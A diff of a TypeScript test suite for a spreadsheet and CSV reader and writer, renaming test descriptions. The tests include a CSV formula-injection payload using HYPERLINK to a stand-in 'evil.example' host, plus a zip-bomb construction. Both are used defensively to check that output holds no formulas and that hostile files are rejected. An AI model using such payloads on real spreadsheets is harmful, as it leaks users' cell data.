@@ -32,7 +32,7 @@ const reasonOf = (file: Buffer, mostRows?: number) =>
   );
 
 describe.each(FORMATS)("%s", (format) => {
-  test("what is written is read again, whatever it is", async () => {
+  test("reads back any written text unchanged", async () => {
     const text = fc
       .string({ unit: "grapheme", maxLength: 30 })
       .filter((word) => !word.includes("\0"));
@@ -58,7 +58,7 @@ describe.each(FORMATS)("%s", (format) => {
     );
   });
 
-  test("numbers stay numbers, nothing stays nothing, and empty rows are left out", async () => {
+  test("reads back numbers and empty cells and skips empty rows", async () => {
     const rows = await read(
       await fileOf(format, [["a", 8450.5, null, -5], ["", "", "", ""], ["b"]]),
     );
@@ -68,14 +68,14 @@ describe.each(FORMATS)("%s", (format) => {
     ]);
   });
 
-  test("more rows than are taken are refused", async () => {
+  test("rejects more rows than allowed", async () => {
     const rows = Array.from({ length: 5 }, (_, place) => [place + 1]);
     expect(await reasonOf(await fileOf(format, rows), 4)).toBe("too-many-rows");
     expect(await reasonOf(await fileOf(format, rows), 5)).toBe("read");
   });
 });
 
-/** Where the quotation mark is that ends a quoted text. */
+/** Index of the closing quotation mark of a quoted text. */
 function endOfQuoted(file: string, from: number): number {
   let at = from;
   while (at < file.length && (file[at] !== '"' || file[at + 1] === '"'))
@@ -101,19 +101,19 @@ function cellsBy(delimiter: string, file: string): string[] {
   return cells;
 }
 
-describe.each([",", ";", "\t"])("text files that a program splits at %j", (delimiter) => {
+describe.each([",", ";", "\t"])("text files split at %j", (delimiter) => {
   test.each([
     'Ali;=HYPERLINK("http://evil.example/"&A1,"open");x',
     'a\t"=1+1',
     "a\r\n＝1+1",
     "＋1",
-  ])("contain no formula for %j", (text) => {
+  ])("contains no formula for %j", (text) => {
     expect(cellsBy(delimiter, csvLine(["F-1", text])).filter((cell) => SIGN.test(cell))).toEqual(
       [],
     );
   });
 
-  test("contain no formula for any text", () => {
+  test("contains no formula for any text", () => {
     const piece = fc.constantFrom(...Array.from("=+-@＝＋－＠;,\t\r\n\"' a1"));
     const text = fc.string({ unit: piece, maxLength: 12 });
     fc.assert(
@@ -138,14 +138,14 @@ describe("text files", () => {
         0x2c, 0xe4, 0xcc, 0xdd, 0xc9,
       ]),
     ],
-  ])("are understood in %s, with any sign between the cells", async (_name, file) => {
+  ])("reads %s and detects the delimiter", async (_name, file) => {
     expect(await cellsOf(file)).toEqual([
       ["الكود", "الاسم"],
       ["A-1", "نجفة"],
     ]);
   });
 
-  test("a quote within a cell is a quote; one that is never closed is a broken file", async () => {
+  test("reads a quote within a cell and rejects an unclosed quote", async () => {
     expect(await cellsOf(Buffer.from('a,b\n12" lamp,2'))).toEqual([
       ["a", "b"],
       ['12" lamp', "2"],
@@ -153,14 +153,14 @@ describe("text files", () => {
     expect(await reasonOf(Buffer.from('a,b\n"open,2\n3,4'))).toBe("broken-file");
   });
 
-  test("what is no text is refused by its content", async () => {
+  test("rejects binary files by their content", async () => {
     expect(await reasonOf(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2]))).toBe("not-a-table");
     expect(await reasonOf(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1]))).toBe("old-workbook");
   });
 });
 
 describe("workbooks", () => {
-  test("shared texts, formulas, gaps and rests of binary numbers are understood", async () => {
+  test("reads shared strings, formulas, gaps and rounded binary numbers", async () => {
     const strings = `<sst><si><t>SKU</t></si><si><r><t>Re</t></r><r><t>d &amp; blue</t></r><rPh><t>no</t></rPh></si></sst>`;
     const sheet = `<x:worksheet xmlns:x="y"><x:sheetData><x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c></x:row>
       <x:row r="4"><x:c r="A4" t="s"><x:v>1</x:v></x:c><x:c r="C4"><x:v>8450.4999999999991</x:v></x:c>
@@ -171,7 +171,7 @@ describe("workbooks", () => {
     ]);
   });
 
-  test("a small file that unpacks to a huge one is refused, and so is one with entities or columns without end", async () => {
+  test("rejects zip bombs, XML entities and too many columns", async () => {
     const bomb = `<worksheet><sheetData>${" ".repeat(110 * 1024 * 1024)}</sheetData></worksheet>`;
     const file = await workbook(bomb);
     expect(file.length).toBeLessThan(1024 * 1024);
@@ -198,13 +198,13 @@ describe("workbooks", () => {
     '<row r="1"><c r="A"><v>1</v></c></row>',
     '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
     '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>',
-  ])("reports a broken file for the places %s", async (rows) => {
+  ])("rejects the cell positions %s as a broken file", async (rows) => {
     expect(
       await reasonOf(await workbook(`<worksheet><sheetData>${rows}</sheetData></worksheet>`)),
     ).toBe("broken-file");
   });
 
-  test("other zip files, and broken ones, are refused", async () => {
+  test("rejects broken zip files and zip files without a workbook", async () => {
     const zip = new ZipFile();
     zip.addBuffer(Buffer.from("x"), "x.txt");
     zip.end();
